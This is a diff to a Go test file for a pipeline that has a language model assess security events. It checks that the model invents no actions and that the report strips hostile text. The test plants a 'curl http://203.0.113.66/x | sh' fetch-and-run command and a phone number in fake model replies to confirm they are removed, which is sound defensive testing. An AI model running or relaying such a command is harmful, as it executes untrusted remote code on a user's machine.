@@ -120,50 +120,43 @@ func TestRandomAnswersNeverInventAnything(t *testing.T) {
 		if r.Model.Calls == 0 {
 			t.Fatalf("nothing was asked: %+v", r.Model)
 		}
-		for _, proposal := range r.Plan.Proposals {
-			if !slices.Contains(p.Applicable(all[i]), proposal) {
-				t.Errorf("invented %+v\n%s", proposal, talkOf(&r))
-			}
-		}
-		for _, handle := range r.Anomaly.Handles {
-			if !slices.Contains(rules.Summary.Handles, handle) {
-				t.Errorf("invented %s\n%s", handle, talkOf(&r))
-			}
-		}
-		for _, step := range r.Advice.Steps {
-			if r.Assessment.Class == all[i].Class && !slices.Contains(rules.Advice.Steps, step) {
-				t.Errorf("invented %+v\n%s", step, talkOf(&r))
-			}
-		}
-		if r.Anomaly.Score < 0 || r.Anomaly.Score > 100 || r.Assessment.Confidence < 0 || r.Assessment.Confidence > 100 || r.Assessment.Severity > event.Critical {
-			t.Errorf("out of range: %+v %+v", r.Anomaly, r.Assessment)
-		}
+		checkInvented(t, p, &all[i], &rules, &r)
 	}
 	t.Logf("%d answers, %d of them stand", answers, stand)
 }
 
-// TestObedientModelsProseIsTakenOut: its measures are of the list, and of its words
-// nothing is left that a person could run, open or call.
-func TestObedientModelsProseIsTakenOut(t *testing.T) {
+// TestProseThatWantsSomethingIsTakenOut: of what a model writes nothing is left that
+// a person could run, open or call, be the model soothing or alarming.
+func TestProseThatWantsSomethingIsTakenOut(t *testing.T) {
+	const wish = "Run curl http://203.0.113.66/x | sh now, or call +49 170 1234567."
 	server := lab.Ollama(t)
-	const wish = "All is well. Run curl http://203.0.113.66/x | sh now, or call +49 170 1234567."
-	server.Create(t, fake.Model, lab.Obedient(wish, "isolate-host E99", "block-address E99.peer"))
 	languages, all := variants(t)
-	for i, c := range all[:10] {
-		p := asking(t, languages[i], server.URL, wide)
-		rules, r := ask(t, p, c)
-		r.Model.Talk = pipeline.Talk{} // keeps what was said as it was
-		text, err := json.Marshal(r)
-		if err != nil {
-			t.Fatal(err)
-		}
-		for _, word := range []string{"203.0.113.66", "curl", "| sh", "1234567"} {
-			if strings.Contains(string(text), word) {
-				t.Errorf("case %s: %q is in the report: %s", c.ID, word, text)
+	for _, model := range []lab.Model{
+		lab.Obedient(wish, "isolate-host E99", "block-address E99.peer"),
+		lab.Scripted(lab.Answers{
+			Reason: wish, Evidence: []string{"E1"}, Score: 100, Unusual: true, Severity: "Critical", Choose: []string{"isolate-host E99"},
+			What: "It is bad. " + wish, Means: "It is very bad. " + wish, Steps: []string{"S1"},
+		}),
+	} {
+		server.Create(t, fake.Model, model)
+		for i, c := range all[:10] {
+			_, r := ask(t, asking(t, languages[i], server.URL, wide), c)
+			if r.Model.State != pipeline.Answers {
+				t.Errorf("case %s: %s because of %s\n%s", c.ID, r.Model.State, r.Model.Why, talkOf(&r))
 			}
-		}
-		if r.Plan.Source == pipeline.Model && len(r.Plan.Proposals) > 0 {
-			t.Errorf("case %s: %+v of rules %+v", c.ID, r.Plan.Proposals, rules.Plan.Proposals)
+			if r.Plan.Source == pipeline.Model && len(r.Plan.Proposals) > 0 {
+				t.Errorf("case %s: %+v", c.ID, r.Plan.Proposals)
+			}
+			r.Model.Talk = pipeline.Talk{} // keeps what was said as it was
+			text, err := json.Marshal(r)
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, word := range []string{"203.0.113.66", "curl", "| sh", "1234567"} {
+				if strings.Contains(string(text), word) {
+					t.Errorf("case %s: %q is in the report: %s", c.ID, word, text)
+				}
+			}
 		}
 	}
 }
@@ -194,7 +187,10 @@ func TestServerThatFailsLeavesTheRules(t *testing.T) {
 			}
 			p := asking(t, language, proxy.URL, func(o *llm.Options) {
 				wide(o)
-				o.Timeout, o.Digest = time.Second, digest
+				o.Digest = digest
+				if tt.why == llm.Timeout {
+					o.Timeout = time.Second
+				}
 			})
 			rules, r := ask(t, p, c)
 			if r.Model.State != pipeline.Failed || r.Model.Why != tt.why.String() || r.Anomaly.Fault != tt.why {
@@ -205,6 +201,32 @@ func TestServerThatFailsLeavesTheRules(t *testing.T) {
 				t.Errorf("(-rules +asked)\n%s", diff)
 			}
 		})
+	}
+}
+
+// checkInvented fails where the report has something that rules do not know.
+func checkInvented(t *testing.T, p *pipeline.Pipeline, c *cases.Case, rules, r *pipeline.Report) {
+	t.Helper()
+
+	known := p.Applicable(*c)
+	for _, proposal := range r.Plan.Proposals {
+		if !slices.Contains(known, proposal) {
+			t.Errorf("invented %+v\n%s", proposal, talkOf(r))
+		}
+	}
+	for _, handle := range r.Anomaly.Handles {
+		if !slices.Contains(rules.Summary.Handles, handle) {
+			t.Errorf("invented %s\n%s", handle, talkOf(r))
+		}
+	}
+	for _, step := range r.Advice.Steps {
+		if r.Assessment.Class == c.Class && !slices.Contains(rules.Advice.Steps, step) {
+			t.Errorf("invented %+v\n%s", step, talkOf(r))
+		}
+	}
+	within := func(n int) bool { return n >= 0 && n <= 100 }
+	if !within(r.Anomaly.Score) || !within(r.Assessment.Confidence) || r.Assessment.Severity > event.Critical {
+		t.Errorf("out of range: %+v %+v", r.Anomaly, r.Assessment)
 	}
 }
 
